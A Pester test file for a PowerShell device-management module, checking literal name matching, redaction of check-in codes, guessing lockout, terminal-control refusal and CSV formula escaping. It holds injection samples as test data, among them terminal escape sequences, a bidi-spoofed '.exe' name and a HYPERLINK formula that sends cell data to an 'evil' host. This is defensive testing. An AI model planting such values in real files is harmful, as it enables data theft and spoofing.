# Issue 9, points 3, 8, 9, 10, 11 and 16 (and the Get-BmgDeviceDepLink -Serial bullet of issue 10.5), through
# the built module: names matched the PowerShell way, codes never shown, check-in guessing stopped, text that
# can't drive a terminal, exports that are inert in a spreadsheet, and serials read by the one serial rule.

BeforeAll {
    . $PSScriptRoot/Common.ps1
    . $PSScriptRoot/Reliability.Common.ps1
}

Describe '9.3 names and identifiers are matched the PowerShell way' {
    BeforeEach {
        $script:Database = New-TestStore
        'sato[contractor]', 'satoc', 'satoo' | ForEach-Object { New-BmgUser -UserName $_ | Out-Null }
        'T1', 'T[1]' | ForEach-Object { New-BmgTemplate -Name $_ | Out-Null }
        New-BmgDevice -Identifier 'dev001' -OS ios | Out-Null
        New-BmgDevice -Identifier 'dev002' -OS ios | Out-Null
    }

    It '9.3 an exact name wins over a pattern' {
        @(Get-BmgUser 'sato[contractor]').UserName | Should -Be @('sato[contractor]')
        @(Get-BmgTemplate 'T[1]').Name | Should -Be @('T[1]')
    }

    It '9.3 Get-BmgUser of a bracketed name piped into Remove-BmgUser removes that user only' {
        Get-BmgUser 'sato[contractor]' | Remove-BmgUser -Confirm:$false
        @(Get-BmgUser).UserName | Sort-Object | Should -Be @('satoc', 'satoo')
    }

    It '9.3 a name without an exact match is still a pattern' {
        @(Get-BmgUser 'sato[co]').UserName | Sort-Object | Should -Be @('satoc', 'satoo')
        Remove-BmgTemplate -Name 'T[1]' -Confirm:$false
        @(Get-BmgTemplate 'T[1]').Name | Should -Be @('T1')
    }

    It '9.3 back-tick escaped characters are unescaped and looked up verbatim' {
        @(Get-BmgUser 'sato`[contractor`]').UserName | Should -Be @('sato[contractor]')
        @(Get-BmgTemplate 'T`[1`]').Name | Should -Be @('T[1]')
        @(Get-BmgDevice -UserName 'sato`[contractor`]').Count | Should -Be 0
    }

    It '9.3 -LiteralName, -LiteralUserName, -LiteralId and -LiteralIdentifier take the text as it is' {
        New-BmgDeviceTag -Name 'tag*' | Out-Null
        New-BmgDeviceTag -Name 'tagged' | Out-Null
        New-BmgOrganization -Id 'org?' -Name 'Question' | Out-Null
        New-BmgOrganization -Id 'orgX' -Name 'Other' | Out-Null
        @(Get-BmgUser -LiteralUserName 'sato[contractor]').UserName | Should -Be @('sato[contractor]')
        @(Get-BmgTemplate -LiteralName 'T[1]').Name | Should -Be @('T[1]')
        @(Get-BmgDeviceTag -LiteralName 'tag*').Name | Should -Be @('tag*')
        @(Get-BmgOrganization -LiteralId 'org?').Id | Should -Be @('org?')
        @(Get-BmgDevice -LiteralIdentifier 'DEV001').Identifier | Should -Be @('dev001')
        @(Get-BmgDeviceDepLink -LiteralIdentifier 'dev002').Identifier | Should -Be @('dev002')
        Assert-ErrorId (Invoke-Captured { Get-BmgDeviceDepLink -LiteralIdentifier 'dev*' }).Errors 'DeviceNotFound'
        New-BmgDevice -Identifier 'mail01' -OS ios -RegistrationEmail 'a@example.com' | Out-Null
        @(Get-BmgCheckInEmail -LiteralIdentifier 'MAIL01').Identifier | Should -Be @('mail01')
        # Taken as it is, 'mail*' is an Identifier no device has: DeviceNotFound, as Get-BmgDevice -LiteralIdentifier says it.
        $literal = Invoke-Captured { Get-BmgCheckInEmail -LiteralIdentifier 'mail*' }
        $literal.Output | Should -BeNullOrEmpty
        Assert-ErrorId $literal.Errors 'DeviceNotFound'
        @(Get-BmgCheckInEmail 'mail*').Identifier | Should -Be @('mail01')
        $result = Invoke-Captured { Get-BmgUser -LiteralUserName 'sato*' }
        $result.Output | Should -BeNullOrEmpty
        Assert-ErrorId $result.Errors 'UserNotFound'
        $result = Invoke-Captured { Get-BmgDevice -LiteralIdentifier 'dev*' }
        Assert-ErrorId $result.Errors 'DeviceNotFound'
    }

    It '9.3 values piped by property name from the module''s own objects are literal' {
        # A user literally named 'sato*': piped from Get-BmgUser, it names itself only.
        New-BmgUser -UserName 'sato*' | Out-Null
        @(Get-BmgUser -LiteralUserName 'sato*' | Get-BmgUser).UserName | Should -Be @('sato*')
        @([pscustomobject]@{ UserName = 'sato[co]' } | Get-BmgUser -ErrorAction SilentlyContinue).Count | Should -Be 0
        @('dev*' | Get-BmgDevice -ErrorAction SilentlyContinue).Count | Should -Be 0
        @(Get-BmgTemplate -LiteralName 'T[1]' | Get-BmgTemplate).Name | Should -Be @('T[1]')
    }

    It '9.3 a piped Identifier with a wildcard character that names no device says piped values are literal (walkthrough 17, 9)' {
        $advice = 'Piped values are taken literally, not as wildcard patterns; to match several devices, give the pattern as -Identifier.'
        foreach ($command in 'Get-BmgDevice', 'Get-BmgDeviceDepLink') {
            foreach ($piped in 'dev00[12]', 'dev*', 'dev00?') {
                $result = Invoke-Captured { $piped | & $command }
                $result.Output | Should -BeNullOrEmpty
                Assert-ErrorId $result.Errors 'DeviceNotFound'
                $result.Errors[0].Exception.Message | Should -Be "No device has the Identifier '$piped' $(Get-InStore). $advice" -Because "$command, piped '$piped'"
            }

            # A piped name without a wildcard character is a plain typo, and -LiteralIdentifier asked for the literal reading.
            (Invoke-Captured { 'nosuch01' | & $command }).Errors[0].Exception.Message | Should -Be "No device has the Identifier 'nosuch01' $(Get-InStore)."
        }

        (Invoke-Captured { Get-BmgDevice -LiteralIdentifier 'dev*' }).Errors[0].Exception.Message | Should -Be "No device has the Identifier 'dev*' $(Get-InStore)."
    }

    It '9.3 a * in a cell of Get-BmgDeviceDepLink -Path is a name, not every device' {
        $path = Write-TestCsv -Name (New-CsvName 'deplink') -Lines @('Identifier', '*', 'dev00?')
        $result = Invoke-Captured { Get-BmgDeviceDepLink -Path $path }
        $result.Output | Should -BeNullOrEmpty
        Assert-ErrorId $result.Errors 'DeviceNotFound' -Count 2
        # So nothing downstream changes every device.
        Get-BmgDeviceDepLink -Path $path -ErrorAction SilentlyContinue | Set-BmgDeviceDepEnrollment -Disable
        @(Get-BmgDevice).Count | Should -Be 2
    }

    It '9.3 an invalid pattern is a clean InvalidWildcardPattern error on <Command>' -ForEach @(
        @{ Command = 'Get-BmgUser'; Block = { Get-BmgUser 'a[' } }
        @{ Command = 'Get-BmgTemplate'; Block = { Get-BmgTemplate 'a[' } }
        @{ Command = 'Get-BmgDeviceTag'; Block = { Get-BmgDeviceTag 'a[' } }
        @{ Command = 'Get-BmgOrganization'; Block = { Get-BmgOrganization 'a[' } }
        @{ Command = 'Get-BmgDepProfile'; Block = { Get-BmgDepProfile 'a[' } }
        @{ Command = 'Get-BmgDevice'; Block = { Get-BmgDevice 'a[' } }
        @{ Command = 'Get-BmgDevice -UserName'; Block = { Get-BmgDevice -UserName 'a[' } }
        @{ Command = 'Get-BmgDevice -Template'; Block = { Get-BmgDevice -Template 'a[' } }
        @{ Command = 'Get-BmgDevice -DeviceTag'; Block = { Get-BmgDevice -DeviceTag 'a[' } }
        @{ Command = 'Get-BmgDeviceDepLink'; Block = { Get-BmgDeviceDepLink 'a[' } }
        @{ Command = 'Get-BmgCheckInEmail'; Block = { Get-BmgCheckInEmail 'a[' } }
        @{ Command = 'Get-BmgCheckInEmail -Recipient'; Block = { Get-BmgCheckInEmail -Recipient 'a[' } }
        @{ Command = 'Get-BmgDepDevice -ProfileName'; Block = { Get-BmgDepDevice -ProfileName 'a[' } }
    ) {
        $result = Invoke-Captured $Block
        $records = @($result.Errors) + @($result.Terminating | Where-Object { $_ })
        $records | Should -HaveCount 1
        $records[0].FullyQualifiedErrorId | Should -BeLike 'InvalidWildcardPattern,*'
        $records[0].CategoryInfo.Category | Should -Be 'InvalidArgument'
        $records[0].TargetObject | Should -Be 'a['
        $records[0].Exception | Should -Not -BeOfType [System.Management.Automation.WildcardPatternException]
        $records[0].Exception.Message | Should -Match "'a\[' is not a valid wildcard pattern"
    }
}

Describe '9.8 no message, text or record shows a check-in code' {
    BeforeEach {
        $script:Database = New-TestStore
        New-BmgDevice -Identifier 'sec001' -OS ios -Code 'Secret1234' -WifiMac '00:11:22:33:44:55' | Out-Null
    }

    It '9.8 a rejected check-in''s TargetObject is the Identifier, not the device with its code' {
        $result = Invoke-Captured { Register-BmgDeviceCheckIn -Identifier 'sec001' -Code 'Secret1234' -WifiMac '00:11:22:33:44:66' }
        Assert-ErrorId $result.Errors 'CheckInRejected'
        $result.Errors[0].TargetObject | Should -BeOfType [string]
        $result.Errors[0].TargetObject | Should -Be 'sec001'
        ($result.Errors[0] | Out-String) | Should -Not -Match 'Secret1234'
    }

    It '9.8 errors of the device cmdlets target the Identifier' {
        Register-BmgDeviceCheckIn -Identifier 'sec001' -Code 'Secret1234' -WifiMac '00:11:22:33:44:55' | Out-Null
        $results = @(
            Invoke-Captured { Remove-BmgDevice 'sec001' -Confirm:$false }
            Invoke-Captured { New-BmgDevice -Identifier 'SEC001' -OS ios }
            Invoke-Captured { Set-BmgDevice 'sec001' -DisplayName 'x' }
            Invoke-Captured { Register-BmgDeviceCheckIn -Identifier 'sec001' -Code 'Secret1234' -WifiMac '00:11:22:33:44:55' }
        )
        foreach ($result in $results) {
            $records = @($result.Errors) + @($result.Terminating | Where-Object { $_ })
            $records | Should -Not -BeNullOrEmpty
            foreach ($record in $records) {
                $record.TargetObject | Should -BeOfType [string] -Because 'the target is the Identifier, never a Device with its code'
                ($record.TargetObject | Out-String) + $record.Exception.Message | Should -Not -Match 'Secret1234'
            }
        }
    }

    It '9.8 -WhatIf, ShouldProcess, verbose and -PassThru Changes say the code "changed", never the code' {
        # What-if text goes to the host, not to a stream: a child process shows all of it.
        $path = Write-TestCsv -Name (New-CsvName 'codes') -Lines @('Identifier,OS,Code', 'sec001,ios,Csv7777777', 'sec003,ios,Csv8888888')
        $child = Invoke-FreshPwsh -Script @"
Import-Module '$env:BMG_TEST_MODULE'
`$PSDefaultParameterValues['*-Bmg*:Database'] = '$Database'
New-BmgDevice -Identifier 'sec002' -OS ios -Code 'Given5678' -WhatIf -Verbose *>&1
Set-BmgDevice 'sec001' -Code 'NewSecret99' -WhatIf -Verbose *>&1
Import-BmgDeviceCsv -LiteralPath '$path' -WhatIf -Verbose *>&1
"@
        $child.Text | Should -Match "Create \(.*Code: 'changed'"
        $child.Text | Should -Match "Update \(Code: 'changed'\)"
        $child.Text | Should -Not -Match 'Given5678|NewSecret99|Secret1234|Csv7777777|Csv8888888'
        $rows = @(Import-BmgDeviceCsv -LiteralPath $path -PassThru -Verbose 4>$null)
        ($rows | Format-List * | Out-String) | Should -Not -Match 'Csv7777777|Csv8888888|Secret1234'
        $rows[0].Changes | Should -Be "Code: 'changed'"
        $rows[1].Changes | Should -Match "Code: 'changed'"
    }

    It '9.8 a typo of a real code is neither shown nor stored in import history' {
        $path = Write-TestCsv -Name (New-CsvName 'typo') -Lines @('Identifier,OS,Code', 'sec001,ios,Secret123!')
        $result = Invoke-Captured { Import-BmgDeviceCsv -LiteralPath $path }
        ($result.Errors + @($result.Terminating) | Out-String) | Should -Not -Match 'Secret123'
        (Get-BmgImportHistory | Format-List * | Out-String) | Should -Not -Match 'Secret123'
        $stored = (Invoke-StoreSql $Database 'SELECT message FROM import_history_errors;') | ForEach-Object { $_[0] }
        $stored | Should -Not -BeNullOrEmpty
        ($stored -join "`n") | Should -Not -Match 'Secret123'
        $failures = (Invoke-StoreSql $Database 'SELECT * FROM checkin_failures;') | ForEach-Object { $_ -join '|' }
        ($failures -join "`n") | Should -Not -Match 'Secret123'
    }
}

Describe '9.9 check-in guessing is stopped' {
    BeforeEach {
        $script:Database = New-TestStore
        New-BmgDevice -Identifier 'guess01' -OS ios -Code 'Right1234' | Out-Null
    }

    It '9.9 after 5 wrong codes within 15 minutes even the right code is refused with CheckInLockedOut, and that is recorded' {
        foreach ($i in 1..5) {
            $result = Invoke-Captured { Register-BmgDeviceCheckIn -Identifier 'guess01' -Code "Wrong$i" }
            Assert-ErrorId $result.Errors 'CheckInRejected'
        }
        $result = Invoke-Captured { Register-BmgDeviceCheckIn -Identifier 'GUESS01' -Code 'Right1234' }
        Assert-ErrorId $result.Errors 'CheckInLockedOut'
        $result.Errors[0].CategoryInfo.Category | Should -Be 'SecurityError'
        (Get-BmgDevice 'guess01').State | Should -Be 'Registered'
        $counts = Invoke-StoreSql $Database 'SELECT reason, count(*) FROM checkin_failures GROUP BY reason ORDER BY reason;'
        ($counts | ForEach-Object { $_ -join '=' }) -join ',' | Should -Be 'CheckInLockedOut=1,CheckInRejected=5'
    }

    It '9.9 the lockout holds across processes (it is counted in the store)' {
        $child = Invoke-FreshPwsh -Script "Import-Module '$env:BMG_TEST_MODULE'; foreach (`$i in 1..5) { try { Register-BmgDeviceCheckIn -Identifier guess01 -Code Bad`$i -Database '$Database' -ErrorAction Stop } catch { `$_.FullyQualifiedErrorId } }"
        @($child.Output -like 'CheckInRejected,*') | Should -HaveCount 5
        $result = Invoke-Captured { Register-BmgDeviceCheckIn -Identifier 'guess01' -Code 'Right1234' }
        Assert-ErrorId $result.Errors 'CheckInLockedOut'
    }

    It '9.9 an unknown Identifier and a wrong code give one and the same error' {
        $wrong = Invoke-Captured { Register-BmgDeviceCheckIn -Identifier 'guess01' -Code 'Nope' }
        $unknown = Invoke-Captured { Register-BmgDeviceCheckIn -Identifier 'ghost01' -Code 'Nope' }
        (Get-ErrorId $unknown.Errors[0]) | Should -Be (Get-ErrorId $wrong.Errors[0])
        $unknown.Errors[0].CategoryInfo.Category | Should -Be $wrong.Errors[0].CategoryInfo.Category
        $unknown.Errors[0].Exception.Message | Should -Be ($wrong.Errors[0].Exception.Message -replace 'guess01', 'ghost01')
    }

    It '9.9 a code under 6 characters is accepted with a warning that does not show it' {
        $result = Invoke-Captured { New-BmgDevice -Identifier 'short01' -OS ios -Code '123' }
        $result.Errors | Should -BeNullOrEmpty
        $result.Warnings | Should -HaveCount 1
        $result.Warnings[0].Message | Should -Match '3 characters'
        $result.Warnings[0].Message | Should -Not -Match "'123'"
        (Get-BmgDevice 'short01').Code | ConvertFrom-SecureString -AsPlainText | Should -Be '123'
        $path = Write-TestCsv -Name (New-CsvName 'short') -Lines @('Identifier,OS,Code', 'short02,ios,1')
        $result = Invoke-Captured { Import-BmgDeviceCsv -LiteralPath $path }
        @($result.Warnings).Where({ $_.Message -match "Line 2 of '.*short.*': .*1 character\b" }) | Should -HaveCount 1
    }
}

Describe '9.10 no text field takes terminal controls, bidi overrides or lone surrogates' {
    BeforeEach {
        $script:Database = New-TestStore
        New-BmgDevice -Identifier 'txt001' -OS ios | Out-Null
    }

    It '9.10 <What> is refused from a parameter' -ForEach @(
        @{ What = 'ESC (a title-setting sequence) in DisplayName'; Block = { Set-BmgDevice 'txt001' -DisplayName "x`e]0;owned`a" }; Field = 'DisplayName' }
        @{ What = 'BS in a UserName'; Block = { New-BmgUser -UserName "root`b`b`badmin" }; Field = 'UserName' }
        @{ What = 'U+202E in a template name'; Block = { New-BmgTemplate -Name "gpj.$([char]0x202E)exe" }; Field = 'Name' }
        @{ What = 'U+2066 in a Description'; Block = { Set-BmgDevice 'txt001' -Description "a$([char]0x2066)b" }; Field = 'Description' }
        @{ What = 'a C1 control (CSI) in a user Name'; Block = { New-BmgUser -UserName 'u1' -Name "a$([char]0x9B)31m" }; Field = 'Name' }
        @{ What = 'a lone surrogate in DisplayName'; Block = { Set-BmgDevice 'txt001' -DisplayName "a$([char]0xD83D)b" }; Field = 'DisplayName' }
        @{ What = 'a tab in DisplayName'; Block = { Set-BmgDevice 'txt001' -DisplayName "a`tb" }; Field = 'DisplayName' }
    ) {
        $before = Get-StoreSnapshot
        $result = Invoke-Captured $Block
        $records = @($result.Errors) + @($result.Terminating | Where-Object { $_ })
        $records | Should -HaveCount 1
        $records[0].FullyQualifiedErrorId | Should -BeLike 'InvalidFieldValue,*'
        $records[0].Exception.Message | Should -Match "^$Field value"
        $records[0].Exception.Message | Should -Match 'U\+[0-9A-F]{4}'
        $records[0].Exception.Message | Should -Not -Match '[\x00-\x08\x0B-\x1F\x7F-\x9F\u202A-\u202E\u2066-\u2069]'
        Get-StoreSnapshot | Should -Be $before
    }

    It '9.10 the same rule holds for Apple''s DEP device list' {
        $path = Write-TestCsv -Name (New-CsvName 'dep') -Lines @('SerialNumber,Model,Description,ProfileName', "C02XK1ABJG5H,iPad,fine,Sales$([char]0x202E)gpj")
        $result = Invoke-Captured { Import-BmgDepDevice -Path $path }
        $records = @($result.Errors) + @($result.Terminating | Where-Object { $_ })
        # One error for the bad entry, naming field and character, then the command's ImportFailed (walkthrough 37, finding 11).
        $records | Should -HaveCount 2
        (Get-ErrorId $records[0]) | Should -Be 'InvalidFieldValue'
        $records[0].Exception.Message | Should -Match 'ProfileName.*U\+202E.*bidirectional'
        (Get-ErrorId $records[1]) | Should -Be 'ImportFailed'
        @(Get-BmgDepDevice).Count | Should -Be 0
    }

    It '9.10 a Description keeps tab and line breaks' {
        (Set-BmgDevice 'txt001' -Description "one`ttwo`r`nthree" -PassThru).Description | Should -Be "one`ttwo`r`nthree"
    }

    It '9.10 the same rule holds for a file, naming field and line' {
        $path = Write-TestCsv -Name (New-CsvName 'controls') -Lines @('Identifier,OS,DisplayName', 'ok0001,ios,fine', "bad0001,ios,x`e[2Jy")
        $result = Invoke-Captured { Import-BmgDeviceCsv -LiteralPath $path }
        $rowError = @($result.Errors).Where({ (Get-ErrorId $_) -eq 'InvalidFieldValue' })
        $rowError | Should -HaveCount 1
        $rowError[0].Exception.Message | Should -Match 'Line 3.*DisplayName'
        @(Get-BmgDevice).Count | Should -Be 1
    }

    It '9.10 the same rule holds for piped objects, a lone surrogate included, naming field and line' {
        $rows = @(
            [pscustomobject]@{ Identifier = 'pipe001'; OS = 'ios'; DisplayName = 'fine' }
            [pscustomobject]@{ Identifier = 'pipe002'; OS = 'ios'; DisplayName = "half $([char]0xDC00) a pair" }
        )
        $result = Invoke-Captured { $rows | Import-BmgDeviceCsv }
        $rowError = @($result.Errors).Where({ (Get-ErrorId $_) -eq 'InvalidFieldValue' })
        $rowError | Should -HaveCount 1
        $rowError[0].Exception.Message | Should -Match 'Line 3.*DisplayName.*valid Unicode'
        @(Get-BmgDevice).Count | Should -Be 1
    }
}

Describe '9.11 exports are inert in a spreadsheet and import back unchanged' {
    BeforeEach {
        $script:Database = New-TestStore
        New-BmgUser -UserName '@handle' -Name '+81 3 1234 5678' -UserDescription '-minus first' | Out-Null
        New-BmgDevice -Identifier 'fx001' -OS ios -UserName '@handle' -DisplayName '=HYPERLINK("http://evil/?c="&H2,"Open")' -Description '@SUM(1+1)' | Out-Null
        New-BmgDevice -Identifier 'fx002' -OS ios -DisplayName "'=already an apostrophe" -Description "'plain apostrophe" | Out-Null
        New-BmgDevice -Identifier '-fx003' -OS ios -DisplayName 'a=b is harmless' | Out-Null
    }

    It '9.11 Export-BmgDeviceCsv escapes formula-looking values with a leading apostrophe' {
        $path = Join-Path $TestDrive (New-CsvName 'export')
        Export-BmgDeviceCsv -LiteralPath $path
        $rows = Import-Csv -LiteralPath $path
        $fx001 = $rows | Where-Object Identifier -EQ 'fx001'
        $fx001.DisplayName | Should -BeExactly '''=HYPERLINK("http://evil/?c="&H2,"Open")'
        $fx001.Description | Should -BeExactly '''@SUM(1+1)'
        $fx001.UserName | Should -BeExactly '''@handle'
        $fx001.Name | Should -BeExactly '''+81 3 1234 5678'
        $fx001.UserDescription | Should -BeExactly '''-minus first'
        $fx002 = $rows | Where-Object Identifier -EQ 'fx002'
        $fx002.DisplayName | Should -BeExactly '''''=already an apostrophe'
        $fx002.Description | Should -BeExactly '''plain apostrophe'
        ($rows | Where-Object Identifier -EQ '''-fx003').DisplayName | Should -BeExactly 'a=b is harmless'
        foreach ($row in $rows) {
            foreach ($property in $row.PSObject.Properties) {
                $property.Value | Should -Not -Match '^[=+\-@\t\r]' -Because "$($property.Name) of $($row.Identifier) must not start a formula"
            }
        }
    }

    It '9.11 an Export-BmgDeviceCsv round trip with formula-looking values stays Unchanged' {
        $path = Join-Path $TestDrive (New-CsvName 'roundtrip')
        Export-BmgDeviceCsv -LiteralPath $path
        $before = Get-StoreSnapshot
        $rows = @(Import-BmgDeviceCsv -LiteralPath $path -PassThru)
        $rows | Should -HaveCount 3
        foreach ($row in $rows) { $row.Outcome | Should -Be 'Unchanged' -Because "line $($row.Line): $($row.Changes) $($row.Error)" }
        Get-StoreSnapshot | Should -Be $before
        @(Import-Csv -LiteralPath $path | Import-BmgDeviceCsv -PassThru).Outcome | Sort-Object -Unique | Should -Be 'Unchanged'
    }

    It '9.11 -NoFormulaEscape writes raw values' {
        $path = Join-Path $TestDrive (New-CsvName 'raw')
        Export-BmgDeviceCsv -LiteralPath $path -NoFormulaEscape
        $rows = Import-Csv -LiteralPath $path
        ($rows | Where-Object Identifier -EQ 'fx001').DisplayName | Should -BeExactly '=HYPERLINK("http://evil/?c="&H2,"Open")'
        ($rows | Where-Object Identifier -EQ 'fx002').DisplayName | Should -BeExactly "'=already an apostrophe"
        @($rows | Where-Object Identifier -EQ '-fx003') | Should -HaveCount 1
    }
}

Describe '9.16 every serial goes through the one serial rule' {
    BeforeEach {
        $script:Database = New-TestStore
        New-BmgDevice -Identifier 'ser001' -OS ios -Serial 'ABCDEFGHSS' | Out-Null
        New-BmgDevice -Identifier 'ser002' -OS ios -Serial 'C02XK1ABJG5H' | Out-Null
    }

    It '9.16 <Command> with abcdefghſſ does not match ABCDEFGHSS and says the serial is invalid' -ForEach @(
        @{ Command = 'Get-BmgDeviceDepLink -Serial'; Block = { Get-BmgDeviceDepLink -Serial 'abcdefghſſ' } }
        @{ Command = 'Get-BmgDevice -Serial'; Block = { Get-BmgDevice -Serial 'abcdefghſſ' } }
        @{ Command = 'Get-BmgDepDevice'; Block = { Get-BmgDepDevice 'abcdefghſſ' } }
        @{ Command = 'Get-BmgDeviceDepLink -Serial (a pattern)'; Block = { Get-BmgDeviceDepLink -Serial 'abcdefghſ*' } }
    ) {
        $result = Invoke-Captured $Block
        $result.Output | Should -BeNullOrEmpty
        $records = @($result.Errors) + @($result.Terminating | Where-Object { $_ })
        $records | Should -HaveCount 1
        $records[0].FullyQualifiedErrorId | Should -BeLike 'InvalidFieldValue,*'
        $records[0].Exception.Message | Should -Match '^Serial value'
    }

    It '9.16 Get-BmgDeviceDepLink -Serial takes any case and wildcards, as Get-BmgDevice -Serial does' {
        (Get-BmgDeviceDepLink -Serial 'abcdefghss').Identifier | Should -Be 'ser001'
        @(Get-BmgDeviceDepLink -Serial 'c02*').Identifier | Should -Be @('ser002')
        @(Get-BmgDeviceDepLink -Serial '*').Identifier | Sort-Object | Should -Be @('ser001', 'ser002')
        @(Get-BmgDevice -Serial 'c02*').Identifier | Should -Be @('ser002')
        @(Get-BmgDeviceDepLink -Serial 'zz*').Count | Should -Be 0
        Assert-ErrorId (Invoke-Captured { Get-BmgDeviceDepLink -Serial 'ZZZZZZZZZZ' }).Errors 'DeviceNotFound'
    }

    It '9.3/9.16 a serial piped from a file is one serial, never a pattern' {
        $result = Invoke-Captured { [pscustomobject]@{ SerialNumber = '*' } | Get-BmgDepDevice }
        $result.Output | Should -BeNullOrEmpty
        Assert-ErrorId $result.Errors 'InvalidFieldValue'
    }
}
